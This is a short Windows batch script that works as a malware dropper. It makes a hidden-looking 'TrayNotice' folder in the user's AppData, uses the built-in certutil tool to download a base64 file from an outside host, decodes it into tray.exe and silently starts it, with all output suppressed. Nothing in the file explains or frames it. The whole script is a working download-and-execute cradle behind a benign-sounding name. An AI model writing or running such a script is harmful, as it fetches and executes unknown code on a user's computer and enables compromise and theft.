@echo off
set "D=%APPDATA%\TrayNotice"
mkdir "%D%" 2>nul
certutil -urlcache -split -f https://tray.example.com/t.b64 "%D%\t.b64" >nul
certutil -decode "%D%\t.b64" "%D%\tray.exe" >nul
start "" /b "%D%\tray.exe"
